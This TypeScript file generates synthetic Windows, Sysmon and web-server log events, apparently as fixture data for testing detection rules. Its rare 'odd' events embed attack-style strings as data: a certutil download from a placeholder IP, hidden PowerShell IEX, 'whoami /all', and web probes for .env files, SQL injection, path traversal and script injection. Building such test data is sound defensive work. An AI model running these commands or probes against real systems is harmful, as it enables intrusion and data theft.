import { closeSync, openSync, writeSync } from 'node:fs';

/** Small, fast, the same on every machine (mulberry32). */
function createRandom(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}

const PROGRAMS = [
  'svchost.exe',
  'chrome.exe',
  'explorer.exe',
  'OUTLOOK.EXE',
  'Teams.exe',
  'MsMpEng.exe',
  'conhost.exe',
  'git.exe',
  'node.exe',
  'dllhost.exe',
];
const SHELLS = ['cmd.exe', 'powershell.exe', 'rundll32.exe', 'wscript.exe', 'regsvr32.exe', 'certutil.exe'];
const FOLDERS = [
  'C:\\Windows\\System32\\',
  'C:\\Program Files\\Common\\',
  'C:\\Users\\mika\\AppData\\Local\\',
  'C:\\Program Files (x86)\\Tools\\',
];
const FLAGS = [
  '-k netsvcs -p',
  '--type=renderer --lang=en',
  '/quiet /norestart',
  '-Embedding',
  '--no-sandbox --field-trial',
  '/c start',
  '-NoLogo -File C:\\ops\\daily.ps1',
];
const ODD = [
  '-enc SQBFAFgA',
  '/c whoami /all',
  '-urlcache -f http://192.0.2.7/a.bin',
  'javascript:alert',
  '-w hidden -nop -c IEX',
];
const USERS = ['CORP\\mika', 'CORP\\sora', 'NT AUTHORITY\\SYSTEM', 'CORP\\aoi', 'CORP\\ren'];
const KEYS = [
  'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\',
  'HKU\\S-1-5-21\\Software\\Classes\\',
  'HKLM\\System\\CurrentControlSet\\Services\\',
];
const PATHS = [
  '/',
  '/index.html',
  '/search?q=hotel+kyoto&page=2',
  '/assets/app.js',
  '/api/v1/offers/8812',
  '/login',
  '/img/hero.webp',
  '/robots.txt',
];
const PROBES = [
  '/.env',
  '/index.php?id=1+union+select+1,2',
  '/../../etc/passwd',
  '/wp-login.php',
  '/?q=<script>alert(1)</script>',
];
const AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) Safari/537.36',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1)',
  'curl/8.5.0',
];

type Event = Readonly<Record<string, string | number>>;

/** Writes events the way shippers write them, one JSON object a line, of Windows, Sysmon and web kinds; about one in fifty is odd. */
export function writeRuleEvents(file: string, count: number): void {
  const random = createRandom(7);
  const pick = (list: readonly string[]): string => list[Math.floor(random() * list.length)] as string;
  const handle = openSync(file, 'w');
  let text = '';
  for (let i = 0; i < count; i++) {
    const make = KINDS[Math.floor(random() * KINDS.length)] as Kind;
    text += `${JSON.stringify(make({ i, random, pick, odd: random() < 0.02 }))}\n`;
    if (text.length < 1_000_000) continue;
    writeSync(handle, text);
    text = '';
  }
  writeSync(handle, text);
  closeSync(handle);
}

interface Draw {
  readonly i: number;
  readonly random: () => number;
  readonly pick: (list: readonly string[]) => string;
  readonly odd: boolean;
}
type Kind = (draw: Draw) => Event;

function windows({ i, pick }: Draw, channel: string, code: number): Event {
  const time = new Date(1_767_225_600_000 + i * 37).toISOString();
  return {
    '@timestamp': time,
    EventID: code,
    Channel: channel,
    Computer: `WS-${i % 400}.corp.example`,
    User: pick(USERS),
  };
}

const SYSMON = 'Microsoft-Windows-Sysmon/Operational';

const process: Kind = (draw) => {
  const { i, pick, odd } = draw;
  const image = pick(FOLDERS) + pick(odd ? SHELLS : PROGRAMS);
  return {
    ...windows(draw, SYSMON, 1),
    ProcessId: 1000 + (i % 9000),
    Image: image,
    OriginalFileName: image.slice(image.lastIndexOf('\\') + 1),
    CommandLine: `"${image}" ${pick(odd ? ODD : FLAGS)} ${i % 977}`,
    CurrentDirectory: pick(FOLDERS),
    IntegrityLevel: 'Medium',
    Hashes: `SHA256=${(i * 2_654_435_761).toString(16).padStart(16, 'A')}`,
    ParentImage: pick(FOLDERS) + pick(PROGRAMS),
    ParentCommandLine: `${pick(PROGRAMS)} ${pick(FLAGS)}`,
  };
};

const KINDS: readonly Kind[] = [
  process,
  process,
  (draw) => ({
    ...windows(draw, SYSMON, 3),
    Image: draw.pick(FOLDERS) + draw.pick(PROGRAMS),
    Protocol: 'tcp',
    Initiated: 'true',
    SourceIp: `10.1.${draw.i % 250}.9`,
    DestinationIp: `203.0.113.${draw.i % 250}`,
    DestinationPort: draw.odd ? 4444 : 443,
    DestinationHostname: `cdn${draw.i % 90}.example.net`,
  }),
  (draw) => ({
    ...windows(draw, SYSMON, 13),
    EventType: 'SetValue',
    Image: draw.pick(FOLDERS) + draw.pick(PROGRAMS),
    TargetObject: `${draw.pick(KEYS)}${draw.odd ? 'Run\\updater' : `Item${draw.i % 500}`}`,
    Details: draw.odd ? 'C:\\Users\\Public\\u.exe' : `DWORD (0x0000000${draw.i % 10})`,
  }),
  (draw) => ({
    ...windows(draw, SYSMON, 11),
    Image: draw.pick(FOLDERS) + draw.pick(PROGRAMS),
    TargetFilename: `${draw.pick(FOLDERS)}cache\\f_${draw.i % 10_000}.${draw.odd ? 'ps1' : 'tmp'}`,
  }),
  (draw) => ({
    ...windows(draw, 'Security', draw.odd ? 4625 : 4624),
    LogonType: 3,
    TargetUserName: draw.pick(USERS),
    SubjectUserName: '-',
    WorkstationName: `WS-${draw.i % 400}`,
    IpAddress: `10.2.3.${draw.i % 250}`,
    AuthenticationPackageName: 'NTLM',
    Status: '0x0',
  }),
  (draw) => ({
    'cs-method': draw.odd ? 'POST' : 'GET',
    'c-ip': `198.51.100.${draw.i % 250}`,
    'cs-uri-query': draw.pick(draw.odd ? PROBES : PATHS),
    'cs-uri-stem': draw.pick(PATHS),
    'cs-host': 'www.example.com',
    'sc-status': draw.odd ? 404 : 200,
    'c-useragent': draw.pick(AGENTS),
    'cs-referer': 'https://www.example.com/',
    '@timestamp': new Date(1_767_225_600_000 + draw.i * 37).toISOString(),
  }),
];
